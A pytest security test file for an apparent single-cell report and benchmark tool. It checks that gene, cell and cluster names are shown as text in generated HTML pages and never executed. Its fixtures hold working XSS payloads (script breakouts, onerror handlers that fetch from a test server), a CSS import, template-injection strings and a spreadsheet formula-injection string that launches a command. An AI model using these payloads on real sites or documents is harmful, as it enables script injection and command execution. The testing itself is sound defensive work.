"""Names that would be code: pages show them as text, run nothing of them and send nothing."""

import csv
import json
import time
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from chromium import browser as browser
from chromium import folder as folder
from chromium import look, open_page, wait
from chromium import start_browser as start_browser
from listening import server as server
from report_page import clustered
from test_bench_scores import method, record

from scinno.bench._tables.html import page as bench_page
from scinno.report import write_report

TURNED = "\u202egnp.exe"  # is read as "exe.png"
LINES = "two\u2028lines\u2029of\u0000text"
EMOJI = "👩\u200d🔬 Zelle 細胞 خلية"


@pytest.fixture(scope="module")
def evil(server) -> list[str]:
    """Names that run, load, close an element, or are read by a template or by Plotly."""
    code = f"window.hacked=1;fetch('{server[0]}/a')"
    return [
        f"</script><script>{code}</script>",
        f'"><img src="{server[0]}/b" onerror="{code}">',
        f"' autofocus onfocus='{code}' x='",
        f'<a href="javascript:{code}">link</a><b style="background:url({server[0]}/c)">bold</b>',
        f"<style>@import '{server[0]}/d';</style><!--",
        "{{ 7 * 7 }} ${7 * 7} %{x} $x^2$ \\u003cb\\u003e &lt;b&gt; &amp;",
        "__proto__", "constructor", TURNED, LINES, EMOJI, "=cmd|' /C calc'!A1",
    ]  # fmt: skip


@pytest.fixture(scope="module")
def genes(names, evil) -> np.ndarray:
    return np.array([f"{evil[j % len(evil)]}{j or ''}" for j in range(len(names))])


@pytest.fixture(scope="module")
def fit(small_fit, genes):
    return replace(small_fit, preprocessing=replace(small_fit.preprocessing, genes=genes))


@pytest.fixture(scope="module")
def adata(fit, simulated, genes, evil):
    adata = clustered(fit, simulated, genes)
    adata.obs_names = [evil[i] if i < len(evil) else f"c{i}" for i in range(adata.n_obs)]
    clusters = adata.obs["scinno"].cat
    adata.obs["scinno"] = clusters.rename_categories(evil[: len(clusters.categories)])
    second = adata.obs["scinno_second_label"].cat
    known = dict(zip(clusters.categories, evil, strict=False))
    adata.obs["scinno_second_label"] = second.rename_categories(known)
    for name, first in (("type", 3), ("batch", 0)):
        groups = pd.Categorical(adata.obs[name])
        changed = evil[first : first + len(groups.categories)]
        adata.obs[name] = groups.rename_categories(changed)
    adata.obs[TURNED] = pd.Categorical([evil[i % len(evil)] for i in range(adata.n_obs)])
    adata.obs[evil[0]] = range(adata.n_obs)
    own = adata.obsm["scinno_memberships"]
    adata.obsm["scinno_memberships"] = 0.9 * own + 0.1 / own.shape[1]  # no cell is certain
    return adata


@pytest.fixture(scope="module")
def report(adata, fit, evil, folder):
    return write_report(adata, folder / "report.html", label_key="type", fit=fit, title=evil[0])


@pytest.fixture(scope="module")
def bench(evil, folder) -> Path:
    sets, keys = evil, ["scinno", evil[1], TURNED]
    runs = [record(name, key, 0.5 + 0.1 * i) for name in sets for i, key in enumerate(keys)]
    runs += [record(sets[0], keys[1], None, mode="unknown")]
    described = [{"name": name, "cells": 10, "genes": 5, "zeros": 0.5, "types": 4,
                  "counts_per_cell": None, "genes_per_cell": 3.0, "smallest_type": 2,
                  "largest_type": 3, "batch_mix": None, "batches": 1} for name in sets]  # fmt: skip
    about = {
        "made": "2026-01-02T03:04:05", "threads": 1, "machines": 1, "defaults": {evil[0]: evil[1]},
        "machine": {"processor": evil[2], "cores": 2, "memory_gb": 8},
        "versions": {"scinno": evil[3], "scinno code": "x"},
    }  # fmt: skip
    results = {
        "about": about, "sets": described, "methods": [method(key) for key in keys], "runs": runs,
        "environments": [{"versions": {"scinno code": "x"}}],
    }  # fmt: skip
    picture = {
        "set": evil[4], "types": evil[:3], "x": [0.0, 1.0, 2.0], "y": [0.0, 1.0, 2.0],
        "truth": [0, 1, 2], "cells": 3,
        "methods": [{"method": keys[1], "ARI": 0.9, "labels": [0, 1, 2]}],
    }  # fmt: skip
    path = folder / "benchmark.html"
    path.write_text(bench_page(results, [picture]), encoding="utf-8")
    return path


SETTLED = "return document.documentElement.dataset.ready"
# Elements and attributes that only a name could have brought into the page.
FOREIGN = """
const events = [...document.querySelectorAll('*')].filter((e) =>
  [...e.attributes].some((a) => a.name.startsWith('on') || /^\\s*javascript:/i.test(a.value)));
return [document.querySelectorAll('img, iframe, object, embed, base, form').length,
  document.querySelectorAll('script:not([type])').length, events.map((e) => e.outerHTML.slice(0, 99)),
  window.hacked ?? null];
"""  # noqa: E501  # JavaScript: its long lines are plain to read


def assert_clean(browser, server) -> None:
    """Nothing of a name runs, nothing is requested, and the page broke none of its own rules."""
    assert browser.execute_script(FOREIGN) == [0, 2, [], None]
    assert server[1] == []
    bad = [one["message"] for one in browser.get_log("browser") if one["level"] == "SEVERE"]
    assert bad == []
    events = [json.loads(entry["message"])["message"] for entry in browser.get_log("performance")]
    assert "Page.javascriptDialogOpening" not in {event["method"] for event in events}
    asked = [event["params"]["request"]["url"] for event in events
             if event["method"] == "Network.requestWillBeSent"]  # fmt: skip
    assert [url for url in asked if not url.startswith(("file:", "data:", "blob:"))] == []


@pytest.fixture
def opened(browser, report):
    look(browser)
    open_page(browser, report)
    return browser


def visible(name: str) -> str:
    """As the page writes it."""
    for code in "\u202e\u2028\u2029\0":
        name = name.replace(code, f"[U+{ord(code):04X}]")
    return name


@pytest.mark.parametrize("width", [390, 1280])
def test_the_report_shows_names_and_runs_none_of_them(browser, report, server, evil, adata, width):
    look(browser, width)
    open_page(browser, report)
    assert browser.title == f"{evil[0]} – scinno"
    for column in range(len(browser.find_elements("css selector", "#color option")) - 1):
        browser.execute_script(
            "const c = document.getElementById('color'); c.value = arguments[0];"
            "c.dispatchEvent(new Event('change'))",
            str(column),
        )
    assert_clean(browser, server)
    head = browser.execute_script(
        "return [...document.querySelectorAll('#cluster-table tbody th')].map((c) => c.textContent)"
    )
    assert head == [visible(name) for name in adata.obs["scinno"].cat.categories]
    words = browser.execute_script("return document.body.innerText")
    assert "\u202e" not in words
    assert visible(TURNED) in words


def test_hover_texts_legends_and_menus_show_them(opened, server, evil):
    texts = opened.execute_script("return document.getElementById('map').data[0].text")
    assert not any("<img" in text or "<a" in text or "<style" in text for text in texts)
    assert any(visible(LINES) in text for text in texts)
    assert any(EMOJI in text for text in texts)
    options = opened.execute_script(
        "return [...document.querySelectorAll('#color option')].map((o) => o.textContent)"
    )
    assert visible(TURNED) in options
    assert evil[0] in options
    opened.execute_script(
        "const c = document.getElementById('color');"
        "c.value = String(arguments[0]); c.dispatchEvent(new Event('change'))",
        options.index(visible(TURNED)) - 1,
    )
    legend = opened.execute_script(
        "return [...document.querySelectorAll('#legend .name')].map((o) => o.textContent)"
    )
    assert sorted(legend) == sorted(visible(name) for name in evil)
    # What Plotly draws from it, with the mouse over a point.
    shown = opened.execute_script(
        "const p = document.getElementById('dots-plot'); Plotly.Fx.hover(p, [{curveNumber: 0,"
        " pointNumber: 0}]); return p.querySelector('.hoverlayer').textContent"
    )
    assert "in cluster " in shown
    assert_clean(opened, server)


def test_genes_are_found_by_the_exact_name_and_color_the_map(opened, server, adata):
    names = opened.execute_script(
        "return [...document.querySelectorAll('button.gene')].map((b) => b.dataset.gene)"
    )
    assert set(names) <= set(adata.var_names)
    for name in (name for name in sorted(set(names)) if "\u202e" in name or "img" in name):
        opened.execute_script(
            "[...document.querySelectorAll('button.gene')]"
            ".find((b) => b.dataset.gene === arguments[0]).click()",
            name,
        )
        assert opened.find_element("id", "legend-title").text.startswith(visible(name)[:9])
        assert "\u202e" not in opened.find_element("id", "map-caption").text
    assert_clean(opened, server)


def test_tables_are_sorted_and_files_are_saved(opened, server, folder, adata):
    for button in opened.find_elements("css selector", "table.sortable thead button"):
        opened.execute_script("arguments[0].click()", button)
    home = folder / "downloads"
    opened.execute_cdp_cmd(
        "Page.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(home)}
    )
    for name in ("marker-csv", "uncertain-csv", "save-map"):
        opened.execute_script(
            "const t = document.getElementById('threshold'); t.value = 1;"
            "t.dispatchEvent(new Event('input')); document.getElementById(arguments[0]).click()",
            name,
        )
    saved = [home / name for name in ("markers.csv", "uncertain-cells.csv", "scinno-map.png")]
    end = time.monotonic() + 60
    while not all(path.exists() and path.stat().st_size for path in saved):
        assert time.monotonic() < end, list(home.glob("*"))
        time.sleep(0.05)
    with saved[1].open(newline="") as file:
        rows = list(csv.reader(file))[1:]
    expected = {f"'{name}" if name[0] == "=" else name for name in adata.obs_names}
    assert {row[0] for row in rows} == expected
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in "=+-@\t\r" and cell]
    assert_clean(opened, server)


def test_a_picture_as_svg_holds_text_only(opened, server, evil):
    wait(opened, SETTLED)
    svg = opened.execute_async_script(
        "Plotly.toImage('dots-plot', {format: 'svg', imageDataOnly: true, width: 900, height: 600})"
        ".then(arguments[0])"
    )
    found = opened.execute_script(
        "const d = new DOMParser().parseFromString(arguments[0], 'image/svg+xml');"
        "return [d.documentElement.tagName, d.querySelectorAll('script, img, a').length,"
        " [...d.querySelectorAll('text')].map((t) => t.textContent).join(' ')]",
        svg,
    )
    assert found[:2] == ["svg", 0]
    assert "</script>" in found[2]
    assert_clean(opened, server)


def test_foreign_scripts_and_requests_are_refused_by_the_page_itself(opened, server):
    """The second wall: what if a name had got through."""
    blocked = opened.execute_async_script(
        """
const done = arguments[1], seen = [], address = arguments[0];
document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
const script = document.createElement("script");
script.textContent = "window.hacked = 1";
document.body.append(script);
const outside = document.createElement("script");
outside.src = address + "/s.js";
document.body.append(outside);
const box = document.createElement("div");
box.innerHTML = `<img src="${address}/i"><p onclick="window.hacked = 1">x</p>`;
document.body.append(box);
box.querySelector("p").click();
fetch(address + "/f").catch(() => {});
try { navigator.sendBeacon(address + "/b"); } catch { /* refused */ }
setTimeout(() => { script.remove(); outside.remove(); box.remove(); done([window.hacked ?? null, seen.sort()]); }, 500);
""",  # noqa: E501  # JavaScript: its long lines are plain to read
        server[0],
    )
    assert blocked[0] is None
    assert set(blocked[1]) == {"connect-src", "img-src", "script-src-attr", "script-src-elem"}
    assert server[1] == []


@pytest.mark.parametrize("width", [390, 1280])
def test_the_benchmark_shows_names_and_runs_none_of_them(browser, bench, server, evil, width):
    look(browser, width)
    open_page(browser, bench)
    browser.execute_script(
        "for (const b of document.querySelectorAll('table.sortable thead button')) b.click()"
    )
    rows = browser.execute_script(
        "return [...document.querySelectorAll('#heat tbody th')].map((c) => c.textContent)"
    )
    assert sorted(rows) == sorted(visible(name) for name in evil)
    words = browser.execute_script("return document.body.innerText")
    assert "\u202e" not in words
    assert visible(TURNED) in words
    assert browser.execute_script("return document.getElementById('problem').hidden")
    assert_clean(browser, server)
